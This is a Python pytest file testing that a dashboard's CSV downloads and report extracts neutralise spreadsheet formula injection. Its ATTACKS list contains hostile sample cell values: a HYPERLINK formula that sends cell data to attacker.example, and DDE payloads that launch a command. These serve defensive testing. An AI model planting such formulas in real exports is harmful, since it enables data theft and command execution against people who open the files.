"""Formula injection (issue 15 item 6): CSVs people open in spreadsheets carry no live formula."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import duckdb
import polars as pl
import pytest

from dashboard.downloads import csv_text
from toolkit.report import build_report
from toolkit.safe_export import neutralise_formulas

PLAIN_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("attack", ATTACKS)
def test_dashboard_csv_download_defuses_formulas(attack: str) -> None:
    frame = pl.DataFrame({"site": [attack, "leeds"], "n": [-3, 4], "delta": ["-3.5", "1e-3"]})
    cells = _cells(csv_text(frame))
    assert f"'{attack}" in cells
    assert not any(c and c[0] in "=+-@\t\r\uff1d" and c not in ("-3", "-3.5") for c in cells)
    # numbers (numeric columns, and text that is a plain number) are kept exactly
    assert "-3" in cells and "-3.5" in cells and "1e-3" in cells and "leeds" in cells


def test_categorical_columns_are_defused_too() -> None:
    frame = pl.DataFrame({"arm": ["=1+1", "retro"]}, schema={"arm": pl.Categorical})
    assert neutralise_formulas(frame)["arm"].to_list() == ["'=1+1", "retro"]


def test_report_extracts_defuse_formulas(demo_study: Path, tmp_path: Path) -> None:
    """A whole site named with a formula: its cells in every extract CSV come out as text."""
    attack = ATTACKS[0]
    copy = tmp_path / "study.duckdb"
    shutil.copyfile(demo_study, copy)
    conn = duckdb.connect(str(copy))
    site = conn.execute("select min(site) from raw_participants").fetchone()[0]
    conn.execute("update raw_participants set site = ? where site = ?", [attack, site])
    conn.close()
    result = build_report(copy, None, tmp_path / "report.html")
    seen = 0
    for path in (p for p in result.extracts if p.suffix == ".csv"):
        for cell in _cells(path.read_text()):
            risky = bool(cell) and cell[0] in "=+-@\t\r"
            assert not risky or PLAIN_NUMBER.match(cell), (path.name, cell)
            seen += cell == f"'{attack}"
    assert seen > 0
